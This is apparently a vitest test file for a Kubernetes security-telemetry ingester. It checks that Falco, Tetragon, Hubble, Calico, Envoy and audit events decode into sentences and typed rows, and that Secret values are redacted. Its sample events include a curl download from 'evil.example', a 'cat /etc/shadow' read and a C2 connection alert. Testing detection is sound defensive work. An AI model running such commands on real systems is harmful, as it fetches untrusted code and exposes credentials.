/** Every file of the corpus, as its sensor sends it: what is read in Logs, and the typed row. */
import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { decoded } from '../../../../test/ingest/decode-fixture.ts'
import type { SecurityTable } from '../../../wire/security/typed-rows.ts'
import type { Decode } from '../../receiver.ts'
import { calicoEvent } from '../calico/calico-event.ts'
import { decodeAccessLog } from '../envoy/receiver.ts'
import { falcoEvent } from '../falco/falco-event.ts'
import { hubbleEvent } from '../hubble/hubble-event.ts'
import { decodeAudit } from '../kubernetes-audit/receiver.ts'
import { tetragonEvent } from '../tetragon/tetragon-event.ts'
import { decodeJson } from './event-service.ts'

const decoders: Record<string, Decode> = {
  audit: decodeAudit,
  falco: decodeJson({ noun: 'alerts', read: falcoEvent }),
  tetragon: decodeJson({ noun: 'events', read: tetragonEvent }),
  hubble: decodeJson({ noun: 'flows', read: hubbleEvent }),
  calico: decodeJson({ noun: 'flows', list: 'items', read: calicoEvent }),
  envoy: decodeAccessLog,
}
const corpus = new URL('../../../../test/corpus/', import.meta.url)

function f(file: string, sent: number, told: readonly string[]) {
  it(`${file} is told in sentences, and every event counts once`, () => {
    const body = readFileSync(new URL(file, corpus))
    const { outcome, rows } = decoded(decoders[file.split('/')[0]!]!, body)
    expect(outcome).toMatchObject({ accepted: sent, rejected: 0, message: '' })
    expect(
      rows('logs').map(({ body: said, severity_number }) => `${severity_number} ${said}`),
    ).toEqual(told)
    const tables: SecurityTable[] = ['audit_events', 'security_events', 'network_flows']
    const typed = tables.flatMap((table) => rows(table))
    const sentences = typed.map((row) => row.sentence).sort()
    expect(sentences).toEqual(
      rows('logs')
        .map((row) => row.body)
        .sort(),
    )
    for (const row of typed) {
      const log = rows('logs').find((one) => one.body === row.sentence)!
      for (const column of ['cluster', 'namespace', 'workload', 'pod', 'node', 'service', 'time']) {
        expect([column, row[column]]).toEqual([column, log[column]])
      }
      expect(row.resource_id).toBe(log.resource_id)
    }
  })
}

const from = 'from 192.168.49.1 (kubectl)'
f('audit/audit.log', 6, [
  `9 minikube-user listed secrets in default ${from}: allowed`,
  `9 minikube-user created secret shop/db ${from}: allowed`,
  `10 alice opened a shell (exec) in pod shop/cart-1 container cart ${from}: allowed`,
  `13 somebody anonymous tried to list secrets in default ${from}: denied (403), ` +
    'secrets is forbidden',
  `9 minikube-user began to watch pods in shop ${from}: allowed`,
])
f('audit/event-list.json', 3, [
  `9 minikube-user listed secrets in default ${from}: allowed`,
  `9 minikube-user, impersonating system:admin, listed secrets in default ${from}: allowed`,
])
f('falco/http-output.json', 1, [
  '10 Terminal shell in container: A shell was spawned in a container with an attached terminal ' +
    '(evt_type=execve user=root process=bash)',
])
f('falco/sidekick.json', 2, [
  '18 Contact C2: Unexpected connection (connection=10.0.0.5:4444->203.0.113.9:443)',
  '13 Read sensitive file untrusted: cat /etc/shadow on n2',
])
const pod = 'shop/cart-7d9c5b6f4-b2xkq'
const command = '/usr/bin/curl http://evil.example -o /tmp/x'
f('tetragon/export.log', 5, [
  `9 ${command} began in ${pod}, started by sh`,
  `9 ${command} ended in ${pod} by SIGKILL`,
  `9 curl connected to 203.0.113.9:443 in ${pod}`,
  `17 Read of a sensitive file: ${command} in ${pod}: stopped (sigkill)`,
  '13 12 events were dropped on n1',
])
f('hubble/events.log', 5, [
  '9 shop/cart → shop/redis:6379 tcp forwarded',
  '13 shop/cart → world (8.8.8.8):53 udp dropped: POLICY_DENIED',
  '17 shop/redis:40000 → shop/cart GET http://cart/x 500 forwarded (reply)',
  '9 shop/cart → shop/redis:6379 dns A example.com. forwarded',
  '13 Hubble lost 12 events on n1 (PERF_EVENT_RING_BUFFER)',
])
f('calico/goldmane.json', 1, ['9 shop/cart → shop/redis:6379 tcp forwarded'])
f('calico/enterprise.log', 1, [
  '13 shop/cart → public network (203.0.113.9):443 tcp dropped: 0|default|shop/egress|deny|0',
])
f('envoy/istio.log', 5, [
  '13 10.44.1.23 → foo/httpbin:8000 GET /status/418?q=1 418 in 5 ms',
  '17 10.44.1.23 → pay.shop (10.44.1.30):8080 POST /pay 503 in 30 ms ' +
    '(UF,URX: upstream connection failure)',
  '13 10.44.1.23 → web.shop (10.44.1.31):8080 GET /admin 403 in 0 ms ' +
    '(rbac_access_denied_matched_policy[none])',
  '9 10.44.1.23 → example.com (203.0.113.9):443 tcp forwarded in 60001 ms',
  '9 unknown → plain.example (10.0.0.8):80 GET /plain 200 in 3 ms',
])
f('envoy/istio.json', 1, ['9 10.0.0.9 → shop/cart:80 GET /x 200 in 2 ms'])

describe('typed rows hold what was sent', () => {
  const rowsOf = (file: string, table: SecurityTable) =>
    decoded(decoders[file.split('/')[0]!]!, readFileSync(new URL(file, corpus))).rows(table)
  const g = (file: string, table: SecurityTable, at: number, row: Record<string, unknown>) =>
    it(`${file} ${table} ${at}`, () => expect(rowsOf(file, table)[at]).toMatchObject(row))

  g('audit/audit.log', 'audit_events', 0, {
    ...{ stage: 'ResponseComplete', level: 'Metadata', verb: 'list', user: 'minikube-user' },
    ...{ user_groups: ['system:masters', 'system:authenticated'], source_ip: '192.168.49.1' },
    ...{ client: 'kubectl', resource: 'secrets', api_version: 'v1', namespace: 'default' },
    ...{ decision: 'allow', outcome: 'success', status_code: 200, duration_ns: 23456000n },
    ...{ time: 1795255198123456000n, service: 'kube-apiserver', object_name: '' },
  })
  g('audit/audit.log', 'audit_events', 2, {
    ...{ pod: 'cart-1', subresource: 'exec', object_name: 'cart-1', user: 'alice' },
  })
  g('falco/http-output.json', 'security_events', 0, {
    ...{ sensor: 'falco', kind: 'syscall', priority: 'notice', severity_number: 10 },
    ...{ tags: ['T1059', 'container', 'maturity_stable'], function: 'execve', user: 'root' },
    ...{ process_name: 'bash', parent_name: 'containerd-shim', process_pid: 4711 },
    ...{ container_id: 'a1b2c3d4e5f6', image: 'docker.io/shop/cart', image_tag: '1.4' },
    ...{ namespace: 'shop', workload: 'cart', pod: 'cart-7d9c5b6f4-b2xkq', node: 'n1' },
    ...{ container: 'cart', time: 1795255198123456789n },
  })
  g('falco/sidekick.json', 'security_events', 0, {
    ...{ source_ip: '10.0.0.5', source_port: 4444, destination_ip: '203.0.113.9' },
    ...{ destination_port: 443, protocol: 'tcp', container_id: '', service: 'falco' },
  })
  g('tetragon/export.log', 'security_events', 2, {
    ...{ kind: 'process_kprobe', function: 'tcp_connect', rule: 'connect', action: 'post' },
    ...{ destination_ip: '203.0.113.9', destination_port: 443, protocol: 'tcp', login_user: '' },
    ...{ process_id: 'bjE6MTIz', parent_path: '/bin/sh', container_id: 'ab'.repeat(32) },
    ...{ workload: 'cart', container: 'cart', image: 'docker.io/shop/cart:1.4' },
  })
  g('hubble/events.log', 'network_flows', 1, {
    ...{ verdict: 'dropped', outcome: 'failure', drop_reason: 'POLICY_DENIED', cluster: 'prod' },
    ...{ direction: 'egress', protocol: 'udp', destination_port: 53, destination_name: 'world' },
    ...{ policies: ['shop/deny'], source_labels: ['k8s:app=cart'], workload: 'cart', node: 'n1' },
  })
  g('hubble/events.log', 'network_flows', 2, {
    ...{ is_reply: true, l7_protocol: 'http', l7_status: '500', duration_ns: 3000000n },
    ...{ trace_id: '0af7651916cd43dd8448eb211c80319c', user_agent: 'curl/8', workload: 'cart' },
  })
  g('calico/goldmane.json', 'network_flows', 0, {
    ...{ source_workload: 'cart', source_bytes: 400n, destination_bytes: 500n, connections: 2 },
    ...{ reporter: 'source', policies: ['default/shop/allow-redis'], duration_ns: 8000000000n },
  })
  g('envoy/istio.log', 'network_flows', 2, { verdict: 'denied', l7_status: '403' })
  g('envoy/istio.log', 'network_flows', 0, {
    ...{ verdict: 'forwarded', direction: 'egress', destination_service: 'httpbin' },
    ...{ user_agent: 'curl/7.73.0-DEV (x y)', duration_ns: 5000000n, l7_host: 'httpbin:8000' },
  })
})

it('keeps no secret of a Secret', () => {
  const [, secret] = decoded(decodeAudit, readFileSync(new URL('audit/audit.log', corpus))).rows(
    'audit_events',
  )
  const { request_object, response_object } = secret as Record<string, string>
  for (const word of ['aHVudGVyMg', 'hunter2', 'managedFields']) {
    expect(request_object! + response_object!).not.toContain(word)
  }
  expect(JSON.parse(request_object!)).toMatchObject({
    data: { password: '[redacted]' },
    stringData: { user: '[redacted]' },
    metadata: { name: 'db' },
  })
})
